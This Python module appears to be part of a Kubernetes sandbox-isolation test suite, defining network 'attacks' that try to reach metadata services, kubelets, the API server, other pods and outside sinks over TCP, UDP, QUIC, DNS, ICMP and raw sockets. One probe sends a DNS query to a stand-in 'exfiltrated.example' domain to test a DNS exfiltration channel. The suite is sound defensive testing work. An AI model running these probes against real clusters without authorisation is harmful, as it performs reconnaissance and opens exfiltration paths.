"""Attacks by packets: everything that does not go through the gateway."""
import os
import random
import socket
import struct

from frame import PACKET_SECONDS, Refused, Sent, Untried, address, attack

INBOUND_PORT = 7777


def connect(targets):
    if not targets:
        raise Untried("no target was given")
    failed = []
    for target in targets:
        try:
            with socket.create_connection(address(target), timeout=PACKET_SECONDS):
                return "connected to %s" % target
        except OSError as error:
            failed.append("%s: %s" % (target, error))
    raise Refused("; ".join(failed))


# Attack, and the parameter that holds its targets; each listens, as the control shows.
TCP = {
    "net-tcp-stranger": "sinks",
    "net-tcp-model": "models",
    "net-tcp-forge": "forges",
    "net-tcp-registry": "registries",
    "net-tcp-metadata": "metadata",
    "net-tcp-cluster-dns": "dns",
    "net-tcp-api-service": "apiServices",
    "net-tcp-api-server": "apiServers",
    "net-tcp-kubelet": "kubelets",
    "net-tcp-host-port": "hostPorts",
    "net-tcp-pod-same-node": "podsSame",
    "net-tcp-pod-other-node": "podsOther",
    "net-tcp-controller": "controllers",
    "net-tcp-supervisor": "supervisors",
    "net-tcp-gateway-other-node": "gatewaysOther",
}
for name, key in TCP.items():
    attack(name)(lambda parameters, key=key: connect(parameters.get(key, [])))


def datagram(target, payload):
    """Sends one and waits for any answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(PACKET_SECONDS)
        sender.sendto(payload, target)
        try:
            return "%d bytes from %s" % (len(sender.recvfrom(2048)[0]), target[0])
        except TimeoutError:
            raise Refused("no answer from %s:%d" % target)


@attack("net-udp")
def udp(parameters):
    return datagram(address(parameters["sinks"][0]), b"out")


@attack("net-quic")
def quic(parameters):
    # A QUIC initial packet: long header, version 1, padded to the least length.
    return datagram(address(parameters["sinks"][0]), b"\xc3\x00\x00\x00\x01\x08" + bytes(1194))


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


@attack("net-dns")
def dns(parameters):
    label = os.urandom(12).hex()
    return datagram(address(parameters["dns"][0]), question("%s.exfiltrated.example" % label, 1))


@attack("net-dns-txt")
def dns_text(parameters):
    return datagram(address(parameters["dns"][0]), question("kubernetes.default.svc.cluster.local", 16))


@attack("net-resolver")
def resolver(parameters):
    return str(socket.getaddrinfo("kubernetes.default.svc.cluster.local", 443)[0][4])


def echo(family, protocol, kind, target):
    """A ping; an unprivileged socket where the pod may have one, a raw one else."""
    identifier = os.getpid() & 0xFFFF
    packet = struct.pack(">BBHHH", kind, 0, 0, identifier, 1) + b"out"
    if family == socket.AF_INET:
        padded = packet + b"\0" * (len(packet) % 2)
        total = sum(struct.unpack(">%dH" % (len(padded) // 2), padded))
        total = (total & 0xFFFF) + (total >> 16)
        packet = packet[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + packet[4:]
    failed = None
    for type_ in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, type_, protocol) as sender:
                sender.settimeout(PACKET_SECONDS)
                sender.sendto(packet, target)
                while True:
                    answer, peer = sender.recvfrom(2048)
                    own = socket.if_nametoindex("lo") == (peer[3] if len(peer) > 3 else -1)
                    if not own and b"out" in answer and peer[0].split("%")[0] not in own_addresses():
                        return "an echo from %s" % peer[0]
        except OSError as error:
            failed = error
    raise Refused("no echo: %s" % failed)


def own_addresses():
    found = {"127.0.0.1", "::1"}
    with open("/proc/net/if_inet6") as lines:
        for line in lines:
            raw = bytes.fromhex(line.split()[0])
            found.add(socket.inet_ntop(socket.AF_INET6, raw))
    return found


@attack("net-icmp")
def icmp(parameters):
    return echo(socket.AF_INET, socket.IPPROTO_ICMP, 8, (address(parameters["sinks"][0])[0], 0))


@attack("net-ipv6")
def ipv6(parameters):
    link = socket.if_nametoindex("eth0")
    return echo(socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, ("ff02::1", 0, 0, link))


@attack("net-raw")
def raw(parameters):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP):
        return "a raw socket"


@attack("net-packet")
def packet(parameters):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)):
        return "a packet socket"


@attack("net-inbound")
def inbound(parameters):
    raise Sent("listening on %d" % INBOUND_PORT)
